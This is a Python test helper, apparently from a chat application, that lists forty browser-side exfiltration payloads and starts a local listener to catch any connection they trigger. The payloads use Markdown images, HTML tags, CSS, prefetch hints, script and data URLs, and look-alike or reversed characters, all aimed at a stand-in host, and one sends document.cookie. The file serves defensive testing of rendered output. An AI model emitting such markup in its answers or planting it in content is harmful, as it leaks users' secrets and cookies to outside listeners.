"""Forty ways in which words of a document or a model might make a browser tell somebody of them.

Each leads to a listener, by a name of its own or by the number of this machine. They are those of
published attacks on chat pages: pictures and links of Markdown, HTML that loads, styles, addresses
of other kinds, letters that look like others, and what a browser does before anybody clicks.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from socketserver import BaseRequestHandler, ThreadingTCPServer

NAME = "leak.test"

_VARIANTS = {
    "markdown image": "![x](http://{at}/p.png?q=secret)",
    "markdown image by number": "![](http://{number}/p.png?q=secret)",
    "markdown image without scheme": "![x](//{at}/p.png?q=secret)",
    "markdown image in a link": "[![x](http://{at}/p.png)](http://{at}/q)",
    "markdown image over two lines": "![x\n](http://{at}/p.png\n'title')",
    "markdown image by reference": "![x][r]\n\n[r]: http://{at}/p.png",
    "markdown link": "[Read more](http://{at}/?q=secret)",
    "reference link": "[Read more][r]\n\n[r]: <http://{at}/?q=secret> 'title'",
    "autolink": "<http://{at}/?q=secret>",
    "bare address": "http://{at}/?q=secret and www.{at}/?q=secret",
    "mail address": "secret@{at}",
    "html image": '<img src="http://{at}/p.gif?q=secret">',
    "html image in quotes": '"><img src=http://{at}/p.gif>',
    "html image set": '<img srcset="http://{at}/p.gif 1x"><picture><source srcset="//{at}/q">',
    "html link": '<a href="http://{at}/" ping="http://{at}/ping">Read</a>',
    "image map": '<map name="m"><area href="http://{at}/" shape="default"></map>',
    "frame": '<iframe src="http://{at}/"></iframe>',
    "frame with a document": "<iframe srcdoc=\"<img src='http://{at}/p.gif'>\"></iframe>",
    "object": '<object data="http://{at}/o"></object><embed src="http://{at}/e">',
    "sound and film": '<video poster="http://{at}/p" src="//{at}/v"></video><audio src="//{at}/a">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://{at}/">',
    "base": '<base href="http://{at}/">',
    "form": '<form action="http://{at}/"><input name="q" autofocus onfocus="form.submit()"></form>',
    "script": "<script src='http://{at}/s.js'></script><script>fetch('//{at}/')</script>",
    "error handler": "<img src=x onerror=\"new Image().src='http://{at}/?'+document.cookie\">",
    "svg": '<svg onload="fetch(\'//{at}/\')"><image href="http://{at}/p.svg"/></svg>',
    "svg use": '<svg><use href="http://{at}/s.svg#x"/><feImage xlink:href="//{at}/f"/></svg>',
    "style attribute": "<p style=\"background:url('http://{at}/b.png')\">Read</p>",
    "style sheet": "<style>@import url(//{at}/s.css); body {{background: url(//{at}/b)}}</style>",
    "linked style sheet": '<link rel="stylesheet" href="http://{at}/s.css">',
    "remote font": "<style>@font-face {{font-family: f; src: url(//{at}/f)}}</style>",
    "names looked up": '<link rel="dns-prefetch" href="//{at}"><link rel=preconnect href=//{at}>',
    "pages fetched": '<link rel="prefetch" href="//{at}/a"><link rel="prerender" href="//{at}/b">',
    "websocket": "<script>new WebSocket('ws://{at}/')</script>",
    "script address": "[Read](javascript:fetch('http://{at}/'))",
    "data address": "[Read](data:text/html,<script>fetch('http://{at}/')</script>)",
    "entities": "&lt;img src=&quot;http://{at}/p.gif&quot;&gt; &#60;img src=//{at}/q&#62;",
    "letters that look alike": "＜img src=//{at}/p＞ !\u200b[x](//{at}/p.png) !\u2060[x](//{at}/q)",
    "words turned round": "\u202e![x](http://{at}/p.png)\u202c <im\u00adg src=//{at}/p>",
    "streamlit's own": ":material/home: :red[![x](//{at}/p)] $\\includegraphics{{//{at}/q}}$",
}


class Listener:
    """Where the ways lead; `heard` has the first bytes of each connection."""

    def __init__(self, port: int) -> None:
        self.at, self.number = f"{NAME}:{port}", f"127.0.0.1:{port}"
        self.heard: list[bytes] = []

    @property
    def variants(self) -> dict[str, str]:
        return {
            name: variant.format(at=self.at, number=self.number)
            for name, variant in _VARIANTS.items()
        }


@contextmanager
def listening_for_leaks() -> Iterator[Listener]:
    """Hears every connection, a silent one too."""

    class Hearing(BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(1)
            try:
                listener.heard.append(self.request.recv(200))
            except OSError:
                listener.heard.append(b"")

    with ThreadingTCPServer(("127.0.0.1", 0), Hearing) as server:
        server.daemon_threads = True
        listener = Listener(server.server_address[1])
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield listener
        server.shutdown()
